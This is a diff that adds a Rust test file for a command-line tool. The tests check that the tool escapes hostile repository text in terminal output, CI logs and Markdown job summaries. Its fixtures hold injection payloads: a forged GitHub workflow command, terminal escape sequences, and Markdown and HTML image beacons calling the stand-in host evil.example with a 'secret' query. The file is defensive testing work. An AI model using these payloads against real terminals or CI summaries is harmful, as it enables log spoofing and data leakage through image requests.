@@ -1,0 +1,109 @@
+//! Output that carries a repository's text, escaped for where it goes: a terminal and a CI
+//! log (`check --diff`), a Markdown job summary (`--format markdown`, `diff --stat`).
+
+use super::*;
+
+/// A `*.tool.md` with a misspelt key at the end of its front matter (a safe fix) and a body
+/// whose first lines, shown as the diff's context, hold a workflow command and terminal
+/// escape sequences (a body is Markdown: any character may be there).
+fn hostile_context() -> String {
+    let tool = common::BASE_TOOL.replace(
+        "  side_effects: \"None. Read-only.\"\n---\n",
+        "  side_efects: \"None. Read-only.\"\n---\n::error file=README.md::injected\n\u{1b}]0;PWNED\u{7} and \u{9b}2J\n",
+    );
+    assert_ne!(tool, common::BASE_TOOL);
+    tool
+}
+
+/// Row 14: `check --diff` prints the context lines of a fix with no control character and
+/// no line GitHub's runner would take as a workflow command.
+#[test]
+fn check_diff_prints_no_workflow_command_or_escape_sequence() {
+    let repo = repo();
+    repo.write("tools/search-docs.tool.md", hostile_context().as_bytes());
+    let output = Command::cargo_bin("toolc")
+        .expect("binary")
+        .current_dir(&repo.root)
+        .args(["check", "--diff"])
+        .timeout(HANG_LIMIT)
+        .output()
+        .expect("toolc runs");
+    let text = String::from_utf8_lossy(&output.stdout);
+    assert_eq!(output.status.code(), Some(1), "{text}");
+    assert!(
+        text.contains("+  side_effects:"),
+        "the fix is shown: {text}"
+    );
+    assert!(
+        text.contains("injected") && text.contains("PWNED"),
+        "{text}"
+    );
+    for c in ['\u{1b}', '\u{7}', '\u{9b}'] {
+        assert!(!text.contains(c), "{c:?} printed raw: {text}");
+    }
+    // GitHub's runner reads a line as a command when it starts with `::` after blanks.
+    assert!(
+        !text.lines().any(|l| l.trim_start().starts_with("::")),
+        "{text}"
+    );
+}
+
+/// Every construct GitHub would render from `markdown` that toolc does not write itself: a
+/// link other than to a rule's page, an image, HTML other than the folded list's, and text
+/// GitHub would link on its own (a bare URL).
+fn rendered_from_content(markdown: &str) -> Vec<String> {
+    use pulldown_cmark::{Event, Options, Parser, Tag};
+    let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH;
+    let own_html = ["<details>", "<summary>", "</summary>", "</details>", "<br>"];
+    let mut found = Vec::new();
+    for event in Parser::new_ext(markdown, options) {
+        match event {
+            Event::Start(Tag::Link { dest_url, .. })
+                if !dest_url.starts_with("https://github.com/toolc/toolc/blob/main/rules/") =>
+            {
+                found.push(format!("link to {dest_url}"));
+            }
+            Event::Start(Tag::Image { dest_url, .. }) => found.push(format!("image {dest_url}")),
+            Event::Html(h) | Event::InlineHtml(h) => {
+                let h = h.trim();
+                if !own_html.iter().any(|own| h.starts_with(own)) {
+                    found.push(format!("HTML {h}"));
+                }
+            }
+            Event::Text(t) if t.contains("://") || t.contains("www.") => {
+                found.push(format!("bare URL in {t}"));
+            }
+            _ => {}
+        }
+    }
+    found
+}
+
+/// Row 13: `check --format markdown` and `diff --stat --format markdown` (pasted into a job
+/// summary) show names and keys holding links, images and HTML as written, never rendered.
+#[test]
+fn markdown_summaries_render_nothing_a_file_wrote() {
+    let name = "![px](https://evil.example/t.png?q=secret)<img src=https://evil.example/i.png>[click](https://evil.example)";
+    let cycod = format!(
+        "name: \"{name}\"\ndescription: d\nbash: echo hi\ntags: [read]\n\"x`![i](https://evil.example/a.png)`y\": 1\nwww.evil.example: 2\n"
+    );
+    let repo = repo();
+    repo.write(".cycod/tools/t.yaml", cycod.as_bytes());
+    let output = run(&repo, &["check", "--format", "markdown"]);
+    let text = String::from_utf8_lossy(&output.stdout);
+    assert!(text.contains("evil.example"), "the names are shown: {text}");
+    let found = rendered_from_content(&text);
+    assert!(found.is_empty(), "{found:#?}\n{text}");
+
+    // The diff's table: a tool of that name removed since the old folder.
+    repo.write("old/.cycod/tools/t.yaml", cycod.as_bytes());
+    std::fs::remove_file(repo.root.join(".cycod/tools/t.yaml")).expect("rm");
+    let output = run(
+        &repo,
+        &["diff", "--against", "old", "--stat", "--format", "markdown"],
+    );
+    let text = String::from_utf8_lossy(&output.stdout);
+    assert!(text.contains("evil.example"), "the name is shown: {text}");
+    let found = rendered_from_content(&text);
+    assert!(found.is_empty(), "{found:#?}\n{text}");
+}
